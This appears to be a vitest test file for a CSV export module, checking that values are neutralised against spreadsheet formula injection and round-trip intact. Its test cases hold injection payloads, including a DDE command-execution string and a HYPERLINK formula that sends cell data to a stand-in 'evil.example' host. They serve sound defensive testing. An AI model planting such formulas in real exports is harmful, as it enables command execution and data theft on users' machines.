import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { expect, test } from "vitest";
import { fromCsvCell, streamCsv, toCsv } from "./csv";

const cellsOf = (csv: string): string[][] => parse(csv);
const written = (value: unknown) => cellsOf(toCsv(["a", "b"], [{ a: value, b: "next" }]))[1]?.[0];

test.each([
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(A1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\0=1+1",
  "  =1+1",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(A1)",
  "'=1+1",
  '=cmd|" /C calc"!A0',
  '=HYPERLINK("http://evil.example?x="&A1,"open")',
  "=1;=2",
])("%j is text in a spreadsheet and comes back as it was", (text) => {
  const cell = written(text);
  expect(cell).toBe(`'${text}`);
  expect(fromCsvCell(cell ?? "")).toBe(text);
});

test("numbers, dates, truth values and lists keep their form; absent is empty", () => {
  const at = new Date("2026-11-24T12:00:00.000Z");
  expect([-5, 0.25, 12n, true, at, null, undefined, Number.NaN, ["=1", 2], "it's"].map(written)).toEqual([
    "-5",
    "0.25",
    "12",
    "true",
    "2026-11-24T12:00:00.000Z",
    "",
    "",
    "",
    '["=1",2]',
    "it's",
  ]);
});

test("the bytes are RFC 4180: header first, CRLF, doubled quotes", () => {
  expect(toCsv(["id", "note"], [{ id: 1, note: 'say "hi", then\nleave' }, { note: "a;b" }])).toBe(
    'id,note\r\n1,"say ""hi"", then\nleave"\r\n,"a;b"\r\n',
  );
});

test("any text survives the way out and back, in one piece or streamed", async () => {
  const columns = ["a", "b", "c"];
  const texts = fc.oneof(
    fc.string({ unit: "grapheme" }),
    fc.string({ unit: fc.constantFrom(..."'=+-@\t\r\n\0\",; a＝") }),
  );
  await fc.assert(
    fc.asyncProperty(fc.array(fc.record({ a: texts, b: texts, c: texts }), { maxLength: 5 }), async (rows) => {
      const csv = toCsv(columns, rows);
      const back = cellsOf(csv).slice(1);
      for (const cell of back.flat()) expect(cell).not.toMatch(/^\s*[=+\-@\t\r\n\0＝＋－＠]/);
      expect(back.map((cells) => cells.map(fromCsvCell))).toEqual(rows.map(({ a, b, c }) => [a, b, c]));
      let streamed = "";
      for await (const line of streamCsv(columns, rows)) streamed += line;
      expect(streamed).toBe(csv);
    }),
    { numRuns: 500 },
  );
});
